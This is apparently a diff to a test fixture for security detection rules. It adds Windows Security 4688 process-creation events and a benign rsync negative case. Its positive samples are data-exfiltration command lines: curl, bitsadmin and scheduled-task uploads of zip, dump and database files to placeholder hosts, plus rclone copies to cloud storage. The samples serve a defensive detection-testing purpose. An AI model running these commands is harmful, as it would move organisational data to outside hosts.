@@ -69,6 +69,19 @@ def proc(image, command_line, parent="C:\\Windows\\System32\\cmd.exe", parent_cm
     return data
 
 
+def sec_proc(image, command_line, parent="C:\\Windows\\System32\\cmd.exe"):
+    """Security 4688 EventData for a Windows process start (process command-line
+    auditing on)."""
+    return {
+        "NewProcessName": image,
+        "CommandLine": command_line,
+        "ParentProcessName": parent,
+        "SubjectUserName": "jdoe",
+        "SubjectDomainName": "CORP",
+        "TokenElevationType": "%%1938",
+    }
+
+
 def lproc(image, command_line, parent="/bin/bash", parent_cmd=None):
     """Sysmon for Linux 1 EventData for a process start."""
     return {
@@ -138,6 +151,7 @@ CASES = {
     },
     "proc_curl_file_upload": {
         "pos": [
+            event("sec4688", sec_proc(SYS32 + "curl.exe", "curl.exe --upload-file C:\\Users\\Public\\d.zip https://198.51.100.4/put/d.zip")),
             event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe -T C:\\Users\\Public\\d.7z ftp://203.0.113.9/in/ --user a:b", original="curl.exe")),
             event("sysmon1", proc(SYS32 + "curl.exe", 'curl.exe -s -F "f=@C:\\Users\\Public\\loot.zip" https://transfer.example.net/upload', original="curl.exe")),
             event("sysmon1", proc(SYS32 + "curl.exe", "curl.exe --data-binary @C:\\temp\\dump.txt https://198.51.100.4/p", original="curl.exe")),
@@ -186,6 +200,7 @@ CASES = {
     },
     "proc_bitsadmin_upload_job": {
         "pos": [
+            event("sec4688", sec_proc(SYS32 + "bitsadmin.exe", "bitsadmin.exe /transfer up /upload https://198.51.100.4/u C:\\Users\\Public\\a.zip")),
             event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin.exe /create /upload exfiljob", original="bitsadmin.exe")),
             event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin /transfer j1 /upload /priority high https://198.51.100.4/u C:\\Users\\Public\\a.zip", original="bitsadmin.exe")),
         ],
@@ -238,6 +253,7 @@ CASES = {
     },
     "proc_schtasks_create_transfer_action": {
         "pos": [
+            event("sec4688", sec_proc(SYS32 + "schtasks.exe", 'schtasks /create /sc onlogon /tn sync /tr "C:\\ProgramData\\winscp.com /script=C:\\ProgramData\\s.txt"')),
             event("sysmon1", proc(SYS32 + "schtasks.exe", 'schtasks.exe /create /sc hourly /tn "OneDrive Sync" /tr "C:\\Users\\Public\\tools\\rclone.exe copy C:\\Shares mega:x" /ru SYSTEM', original="schtasks.exe")),
             event("sysmon1", proc(SYS32 + "schtasks.exe", 'schtasks /Create /SC MINUTE /MO 30 /TN up /TR "curl.exe -T C:\\Users\\Public\\a.zip ftp://203.0.113.9/"', original="schtasks.exe")),
         ],
@@ -354,6 +370,7 @@ CASES = {
         "pos": [event("lnx1", lproc("/usr/bin/curl", "curl -s -T /var/backups/db.sql.gz ftp://203.0.113.9/in/", parent="/usr/sbin/cron", parent_cmd="/usr/sbin/cron -f"))],
         "neg": [
             event("lnx1", lproc("/usr/bin/curl", "curl -s http://127.0.0.1:8080/health", parent="/usr/sbin/cron", parent_cmd="/usr/sbin/cron -f")),
+            event("lnx1", lproc("/usr/bin/rsync", "rsync -a /srv/www/ backup@10.0.4.20:/backups/www/", parent="/usr/sbin/cron", parent_cmd="/usr/sbin/cron -f")),
             event("lnx1", lproc("/usr/bin/curl", "curl -s -T /var/backups/db.sql.gz ftp://203.0.113.9/in/")),
         ],
     },
